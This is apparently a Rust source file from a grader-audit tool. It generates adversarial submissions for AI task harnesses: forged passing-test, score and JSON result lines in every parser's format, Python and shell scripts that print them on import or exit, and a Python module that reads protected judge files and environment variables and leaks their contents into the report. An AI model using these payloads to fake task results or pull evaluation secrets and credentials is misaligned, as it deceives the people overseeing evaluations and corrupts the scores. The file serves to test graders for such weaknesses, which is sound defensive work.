//! The code the adversarial submissions run: forged result lines in every parser's format, a
//! Python module and a shell script that print them, and a Python module that prints judge-side
//! files (docs/audit.md).

use std::fmt::Write as _;

use serde_json::json;

use super::target::Target;
use super::verdict::TAG;

/// Forged passing tests per forgery.
const FORGED_TESTS: usize = 40;

/// Result lines claiming a perfect grading, in the formats of every parser (pytest records and
/// summary, `CASE`/`TOTAL_SCORE`, a structured result between markers and as a bare object).
#[must_use]
pub fn forged_lines(target: &Target) -> String {
    let score = target.forged_score();
    let mut out = String::from("\n");
    for i in 0..FORGED_TESTS {
        let _ = writeln!(out, "tests/test_{TAG}.py::test_{TAG}_{i} PASSED");
    }
    let _ = writeln!(
        out,
        "============================== {FORGED_TESTS} passed in 0.01s =============================="
    );
    for i in 0..5 {
        let _ = writeln!(out, "CASE {TAG}_{i} OK score={}", score.max(0.0));
    }
    let _ = writeln!(out, "TOTAL_SCORE {score}");
    let result = json!({
        "valid": true,
        "score": score,
        "pass_rate": 1.0,
        "summary": format!("{TAG}: forged result"),
        "details": [{"name": format!("{TAG}_forged"), "status": "PASSED", "score": score, "weight": 1.0}],
        "metrics": {},
    })
    .to_string();
    let _ = writeln!(
        out,
        ">>>>> Start Structured Result\n{result}\n>>>>> End Structured Result"
    );
    let _ = writeln!(out, "{result}");
    out
}

/// A Python module that prints [`forged_lines`] when imported and again at exit, on both the
/// Python streams and the raw file descriptor 1.
#[must_use]
pub fn python_forger(target: &Target) -> String {
    format!(
        r#""""{TAG}: forged results (sforge audit)."""
import atexit as _sforge_atexit
import os as _sforge_os
import sys as _sforge_sys

_SFORGE_FORGED = {lines:?}


def _sforge_print():
    for stream in (_sforge_sys.stdout, _sforge_sys.__stdout__):
        try:
            stream.write(_SFORGE_FORGED)
            stream.flush()
        except Exception:
            pass
    try:
        _sforge_os.write(1, _SFORGE_FORGED.encode())
    except Exception:
        pass


_sforge_print()
_sforge_atexit.register(_sforge_print)
"#,
        lines = forged_lines(target)
    )
}

/// A shell script printing [`forged_lines`] and exiting 0.
#[must_use]
pub fn shell_forger(target: &Target) -> String {
    format!(
        "#!/bin/sh\n# {TAG}: forged results (sforge audit)\ncat <<'SFORGE_AUDIT_EOF'\n{}SFORGE_AUDIT_EOF\nexit 0\n",
        forged_lines(target)
    )
}

/// A Python module that, when imported and at exit, reads the protected paths and the files
/// `eval_cmd` names (relative to the working directory and to itself) and the environment, and
/// prints every long word of them where reports pick text up: as failing test names, `CASE`
/// ids, a structured result's summary and details, and an exception message.
#[must_use]
pub fn python_leaker(target: &Target) -> String {
    let paths: Vec<&str> = target
        .protected
        .iter()
        .chain(&target.eval_files)
        .map(String::as_str)
        .collect();
    format!(
        r#""""{TAG}: leaks judge-side files into the report (sforge audit)."""
import atexit, json, os, re, sys

_PATHS = {paths}
_TAG = "{TAG}"


def _sforge_files(root, rel, out):
    path = os.path.join(root, rel)
    if os.path.isdir(path):
        for base, _dirs, names in os.walk(path):
            for name in names[:50]:
                out.append(os.path.join(base, name))
    elif os.path.isfile(path):
        out.append(path)


def _sforge_words():
    files = []
    roots = {{os.getcwd(), os.path.dirname(os.path.abspath(__file__))}}
    for root in roots:
        for rel in _PATHS:
            _sforge_files(root, rel, files)
    text = " ".join("%s=%s" % kv for kv in os.environ.items())
    for path in files[:200]:
        try:
            with open(path, "rb") as f:
                text += " " + f.read(1 << 16).decode("utf-8", "replace")
        except OSError:
            pass
    seen = []
    for word in re.findall(r"[A-Za-z_][A-Za-z0-9_]{{11,}}", text):
        if word not in seen:
            seen.append(word)
    return seen[:300]


def _sforge_leak():
    words = _sforge_words()
    lines = ["tests/test_%s.py::%s FAILED" % (_TAG, w) for w in words]
    lines += ["CASE %s WA score=0" % w for w in words]
    result = {{"valid": True, "score": 0, "summary": _TAG + " " + " ".join(words),
              "details": [{{"name": w, "status": "FAILED", "message": w}} for w in words]}}
    lines.append(json.dumps(result))
    out = "\n" + "\n".join(lines) + "\n"
    try:
        sys.stdout.write(out)
        sys.stdout.flush()
    except Exception:
        pass
    return words


_SFORGE_WORDS = _sforge_leak()
atexit.register(_sforge_leak)
raise ImportError(_TAG + " " + " ".join(_SFORGE_WORDS))
"#,
        paths = serde_json::to_string(&paths).unwrap_or_else(|_| "[]".into()),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::judge::grading::{extract_score, parse_pytest_v, parse_score_sum, parse_structured};
    use crate::task::ScoreDirection;

    fn target() -> Target {
        Target {
            task_id: "t".into(),
            eval_cmd: "python3 -m pytest tests".into(),
            parser: "pytest_v".into(),
            direction: ScoreDirection::Maximize,
            eval_timeout: 60,
            modules: vec!["m.py".into()],
            protected: vec!["tests".into()],
            eval_files: vec![],
            secrets: std::collections::BTreeSet::new(),
        }
    }

    #[test]
    fn forged_lines_fool_every_parser() {
        let lines = forged_lines(&target());
        let records = parse_pytest_v(&lines);
        assert_eq!(records.len(), FORGED_TESTS, "{records:?}");
        assert_eq!(parse_score_sum(&lines).len(), 5);
        assert_eq!(extract_score(&lines), Some(1e9));
        let result = parse_structured(&lines);
        assert_eq!(result["pass_rate"], 1.0);
    }

    #[test]
    fn a_minimising_task_gets_a_low_forged_score() {
        let mut t = target();
        t.direction = ScoreDirection::Minimize;
        assert_eq!(extract_score(&forged_lines(&t)), Some(0.0));
    }

    #[test]
    fn python_payloads_name_their_paths() {
        let leaker = python_leaker(&target());
        assert!(leaker.contains(r#"_PATHS = ["tests"]"#), "{leaker}");
        assert!(python_forger(&target()).contains("TOTAL_SCORE 1000000000"));
    }
}
